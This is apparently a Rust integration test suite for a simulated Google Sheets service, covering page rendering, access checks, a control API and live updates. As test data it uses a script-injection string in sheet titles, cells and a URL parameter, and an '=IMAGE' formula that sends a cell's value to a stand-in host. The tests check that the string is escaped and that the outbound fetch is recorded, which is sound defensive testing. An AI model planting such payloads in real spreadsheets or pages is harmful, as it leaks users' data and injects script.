//! A spreadsheet on the page and in the control API, while a client of Google's writes into it.

use bytes::Bytes;
use futures_util::StreamExt;
use http::{Request, header};
use http_body_util::{BodyExt, BodyStream, Full};
use hyper_util::{client::legacy::Client, rt::TokioExecutor};
use serde_json::{Value, json};

use super::{
    client::{Answer, Outside},
    tame::only_our_tags,
};

const SHEETS: &str = "https://www.googleapis.com/auth/spreadsheets";

async fn google(outside: &Outside, path: &str, body: Value) -> Value {
    let given = outside.post("/google/token", json!({"person": "ana", "scopes": [SHEETS]})).await;
    let token = given["access_token"].as_str().unwrap();
    let request = Request::post(format!("{}{path}", outside.card.google_base_url))
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header(header::CONTENT_TYPE, "application/json")
        .body(Full::from(body.to_string()));
    let answer = outside.send(request.unwrap()).await.unwrap();
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer.body
}

async fn look(outside: &Outside, path: &str) -> Answer {
    let address = format!("{}{path}", outside.card.google_base_url);
    outside.send(Request::get(address).body(Full::default()).unwrap()).await.unwrap()
}

async fn shown(outside: &Outside, path: &str) -> String {
    let answer = look(outside, path).await;
    assert_eq!(answer.status, 200, "{path}: {}", answer.body);
    answer.body.as_str().unwrap_or_default().to_owned()
}

/// A spreadsheet of Ana's with two sheets.
async fn made(outside: &Outside) -> String {
    let hostile = "<script>alert(1)</script>\"><b>";
    let sheets = json!([{"properties": {"title": "Costs"}}, {"properties": {"title": hostile}}]);
    let book = json!({"properties": {"title": hostile}, "sheets": sheets});
    let id = google(outside, "/v4/spreadsheets", book).await["spreadsheetId"].as_str().unwrap().to_owned();
    let red = json!({"userEnteredFormat": {"backgroundColor": {"red": 1}, "textFormat": {"bold": true}}});
    let range = json!({"sheetId": 0, "endRowIndex": 1, "endColumnIndex": 1});
    let requests = json!([
        {"repeatCell": {"range": range, "cell": red, "fields": "userEnteredFormat"}},
        {"mergeCells": {"range": {"sheetId": 0, "startRowIndex": 5, "endRowIndex": 6, "startColumnIndex": 0, "endColumnIndex": 3}, "mergeType": "MERGE_ALL"}},
    ]);
    google(outside, &format!("/v4/spreadsheets/{id}:batchUpdate"), json!({"requests": requests})).await;
    let values = json!([[hostile, "$5.00"], ["", "=B1*2"], [], [], [], ["wide"]]);
    let typed = json!({"person": "ana", "id": id, "range": "Costs!A1", "values": values});
    assert_eq!(outside.post("/google/type", typed).await, json!({"written": "Costs!A1:B6"}));
    id
}

#[tokio::test]
async fn a_sheet_is_shown_with_its_formulas_colours_and_tabs_and_no_tag_of_a_strangers() {
    let outside = Outside::new().await;
    let id = made(&outside).await;
    let page = shown(&outside, &format!("/as/ana/sheet/{id}")).await;
    let body = page.split_once("<body").unwrap().1.trim_end_matches("</html>");
    only_our_tags(&format!("<body{body}"));
    for piece in [
        "<th scope=\"col\">B</th>",
        "<th scope=\"row\">20</th>",
        "$10.00",
        "title=\"=B1*2\"",
        "<code class=\"formula\">=B1*2</code>",
        "data-background=\"#ff0000\"",
        "colspan=\"3\"",
        "aria-current=\"page\" dir=\"auto\">Costs</a>",
    ] {
        assert!(page.contains(piece), "{piece}");
    }
    let other =
        shown(&outside, &format!("/as/ana/sheet/{id}?tab=%3Cscript%3Ealert(1)%3C%2Fscript%3E%22%3E%3Cb%3E"))
            .await;
    assert!(!other.contains("$10.00"));
    for path in ["sheet/unknown", &format!("sheet/{id}?tab=Nope")] {
        assert_eq!(look(&outside, &format!("/as/ana/{path}")).await.status, 404, "{path}");
    }
    for path in [format!("sheet/{id}"), format!("part/sheet?sheet={id}"), format!("live?sheet={id}")] {
        assert_eq!(look(&outside, &format!("/as/ben/{path}")).await.status, 404, "{path}");
    }
    outside.sandbox.stop().await.unwrap();
}

#[tokio::test]
async fn the_control_api_shows_cells_and_fetches_and_lets_somebody_edit() {
    let outside = Outside::new().await;
    let id = made(&outside).await;
    let sheet = outside.get(&format!("/google/sheet?id={id}&sheet=Costs")).await;
    let cell = sheet["cells"].as_array().unwrap().iter().find(|cell| cell["cell"] == "B2").unwrap().clone();
    assert_eq!(cell, json!({"cell": "B2", "shown": "$10.00", "value": 10, "formula": "=B1*2"}));
    assert_eq!(sheet["merges"], json!(["A6:C6"]));
    let typed =
        json!({"person": "ana", "id": id, "range": "A9", "values": [["=IMAGE(\"https://x.example/?\"&B1)"]]});
    outside.post("/google/type", typed).await;
    let fetches = outside.get(&format!("/google/fetches?id={id}")).await;
    let fetch = &fetches["fetches"][0];
    assert_eq!(
        (&fetch["function"], &fetch["cell"], &fetch["url"]),
        (&json!("IMAGE"), &json!("A9"), &json!("https://x.example/?5"))
    );
    let part = shown(&outside, &format!("/as/ana/part/sheet?sheet={id}&title=Costs")).await;
    assert!(part.contains("id=\"cell-A9\""));
    let wrong = json!({"person": "ana", "id": id, "range": "Nope!A1", "values": [["x"]]});
    let refused = outside.try_post("/google/type", wrong).await;
    assert_eq!(refused.status, 400);
    assert!(refused.body["error"].as_str().unwrap().contains("Unable to parse range: Nope!A1"));
    let foreign = json!({"person": "ben", "id": id, "range": "A1", "values": [["x"]]});
    assert_eq!(outside.try_post("/google/type", foreign).await.status, 404);
    outside.sandbox.stop().await.unwrap();
}

#[tokio::test]
async fn whoever_looks_at_a_sheet_sees_others_write() {
    let outside = Outside::new().await;
    let id = made(&outside).await;
    let http: Client<_, Full<Bytes>> = Client::builder(TokioExecutor::new()).build_http();
    let address = format!("{}/as/ana/live?sheet={id}&title=Costs", outside.card.google_base_url);
    let response = http.request(Request::get(address).body(Full::default()).unwrap()).await.unwrap();
    let mut stream = BodyStream::new(response.into_body().map_frame(|frame| frame));
    let mut next = async || {
        let frame = stream.next().await.unwrap().unwrap().into_data().unwrap();
        String::from_utf8(frame.to_vec()).unwrap()
    };
    assert_eq!(next().await, "event: changed\ndata: sheet sidebar modal\n\n");
    let typed = json!({"person": "ana", "id": id, "range": "Costs!C1", "values": [["new"]]});
    outside.post("/google/type", typed).await;
    assert_eq!(next().await, "event: changed\ndata: sheet\n\n");
    outside.sandbox.stop().await.unwrap();
}
